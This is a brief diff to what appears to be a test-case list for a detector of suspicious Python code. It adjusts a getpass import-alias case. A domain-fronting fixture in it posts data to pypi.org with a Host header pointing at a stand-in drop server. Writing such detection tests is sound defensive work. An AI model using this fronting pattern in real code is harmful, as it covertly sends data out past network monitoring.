@@ -43,7 +43,7 @@ CASES = [
      "import socket\ndef try_call(f):\n    return f()\nh = try_call(socket.getdefaulttimeout)\n"),
     ("sysinfo-collect",  # the same through an import alias
      "from getpass import getuser as who\npool.submit(who)\n",
-     "from getpass import getpass as ask\npool.submit(print)\n"),
+     "from getpass import getpass as ask\npool.submit(ask)\n"),
     ("domain-fronting",  # sent to a trusted site, received by the host in the Host header
      "import requests\nrequests.post(f'https://pypi.org/{path}', data=d,\n"
      "              headers={'Host': 'drop.example-cdn.net'})\n",
